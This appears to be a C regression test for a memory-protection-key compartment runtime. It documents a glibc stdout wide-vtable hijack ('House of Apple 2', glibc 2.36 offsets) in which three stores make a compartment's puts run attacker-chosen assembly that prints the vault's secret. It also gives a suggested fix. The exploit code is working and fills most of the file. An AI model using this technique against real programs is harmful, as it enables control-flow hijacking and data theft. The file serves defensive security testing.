// Review 24, attacker model A (key-0 stores only: three stores, no system
// call): stdout's FILE (libc's .data, key 0) sends a compartment's puts
// through a table of code pointers that glibc does not check, to code the
// attacker chose, with the compartment's PKRU.
//
// glibc checks a FILE's vtable pointer (it must lie in libc's
// __libc_IO_vtables section, read-only), but not the wide-character
// vtable its _wide_data names. The attacker stores (1) into stdout's
// vtable the address of glibc's own _IO_wfile_jumps (read from stdout's
// _wide_data->_wide_vtable: it passes the check), (2) into stdout's
// _wide_data the address of a zeroed struct of its own, whose
// _wide_vtable (3) points at a table whose __doallocate entry is code of
// the program's. The vault's puts then runs _IO_wfile_xsputn,
// _IO_wdefault_xsputn, __woverflow, _IO_wfile_overflow (the wide write
// buffer is NULL), _IO_wdoallocbuf, and calls __doallocate through the
// unchecked table: that code (a file-scope asm routine, no wrapper) runs
// with the vault's PKRU, writes the vault's secret to fd 1 and ends the
// process. Offsets are glibc 2.36's x86-64 layout (FILE: _wide_data 0xa0,
// vtable 0xd8; struct _IO_wide_data: _wide_vtable 0xe0; struct _IO_jump_t:
// __doallocate 0x68), known from the binary as model A allows. A known
// technique against glibc's vtable check ("House of Apple 2"; facts only).
//
// The same class as attacks-rev24-printf-table.c (libc's writable code
// pointers, which runtime/plt.c does not cover) and as the stdio data
// residual (runtime/attacks-review2-stdio.c), but it needs no conversion
// registered and gives code, not a copy.
//
// Seen in the guest (filter on): ATTACK SUCCEEDED with the secret;
// control (no stores): the vault's line.
//
// Suggested fix: a compartment's stdio goes through the default domain
// (the runtime interposes the stdio functions a compartment calls, as it
// does pthread_create, and copies the data across), or the threat model
// states that a compartment calling stdio on a shared FILE gives its
// rights to anyone who can store into that FILE (no check of the runtime
// can keep libc's .data read-only).
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// CONTROL: the vault's line
// CONTROL: held: the vault's puts printed
// RUN: %run %t | FileCheck %s
// CHECK: stores made
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attacks-rev24-stdio-wide-vtable: done
#define _GNU_SOURCE
#include <bulkhead.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

BULKHEAD_DATA(vault) static char vault_secret[32];
char *secret_at; /* its address (not a secret), for the routine */

BULKHEAD_ENTRY(vault) void vault_init(void) {
  snprintf(vault_secret, sizeof vault_secret, "vault-secret-%d", 2426);
}

/* Honest work: the vault prints a line. */
BULKHEAD_ENTRY(vault) void vault_say(void) { puts("the vault's line"); }

/* Code of the program's: writes "ATTACK SUCCEEDED: " and the secret to
 * fd 1, then ends the process. */
__asm__(".text\n"
        ".p2align 4\n"
        ".globl rev24_wide\n"
        "rev24_wide:\n"
        "  leaq rev24_msg(%rip), %rsi\n"
        "  movl $1, %edi\n"
        "  movl $18, %edx\n"
        "  movl $1, %eax\n"
        "  syscall\n"
        "  movq secret_at(%rip), %rsi\n"
        "  movl $1, %edi\n"
        "  movl $17, %edx\n"
        "  movl $1, %eax\n"
        "  syscall\n"
        "  movl $231, %eax\n"
        "  xorl %edi, %edi\n"
        "  syscall\n"
        ".section .rodata\n"
        "rev24_msg: .ascii \"ATTACK SUCCEEDED: \"\n"
        ".text\n");
extern char rev24_wide[];

static uintptr_t fake_wide[0x100 / 8];   /* a struct _IO_wide_data */
static uintptr_t fake_vtable[0x70 / 8]; /* a struct _IO_jump_t */

int main(int argc, char **argv) {
  int control = argc > 1 && !strcmp(argv[1], "control");
  vault_init();
  secret_at = vault_secret;
  if (!control) {
    char *f = (char *)stdout;
    uintptr_t wide = *(uintptr_t *)(f + 0xa0);
    uintptr_t wfile_jumps = *(uintptr_t *)(wide + 0xe0);
    fake_vtable[0x68 / 8] = (uintptr_t)rev24_wide;
    fake_wide[0xe0 / 8] = (uintptr_t)fake_vtable;
    puts("stores made");
    fflush(stdout);
    *(uintptr_t *)(f + 0xa0) = (uintptr_t)fake_wide; /* the attacker's */
    *(uintptr_t *)(f + 0xd8) = wfile_jumps;          /* stores */
  }
  vault_say();
  puts("held: the vault's puts printed");
  puts("attacks-rev24-stdio-wide-vtable: done");
  return 0;
}
